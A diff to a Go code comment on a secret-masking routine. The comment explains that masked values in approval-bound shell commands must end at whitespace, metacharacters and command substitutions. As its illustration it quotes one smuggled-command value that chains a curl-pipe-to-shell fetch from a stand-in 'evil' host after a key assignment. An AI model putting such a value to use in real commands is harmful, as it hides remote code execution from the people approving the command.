@@ -12,12 +12,13 @@ import (
 // shell command a person is asked to approve: the value must end where the
 // shell's word ends, or the mask hides the commands that follow it
 // (API_KEY=x&&curl${IFS}evil|sh&&make test). A value therefore ends at
-// whitespace and at every shell metacharacter (; & | ` $ ( ) < > and the
+// whitespace, at every shell metacharacter (; & | ` $ ( ) < > and the
 // quotes), and at an escape that stands for another byte (\n, \u0026 in
-// arguments shown as JSON text); a quoted part of the word (KEY="a b", KEY='x;y') is taken whole,
-// since the shell takes it literally, except that it too ends at a command
-// substitution ($( or `), which runs even inside double quotes (and inside
-// single quotes nested in an outer double-quoted string).
+// arguments shown as JSON text). A quoted part of the word (KEY="a b",
+// KEY='x;y') is taken whole, since the shell takes it literally, except
+// that it too ends at a command substitution ($( or `), which runs even
+// inside double quotes (and inside single quotes nested in an outer
+// double-quoted string).
 //
 // The quoting state at the value is read from the start of its line (a
 // value never runs past a newline), so a stray quote on another line (a
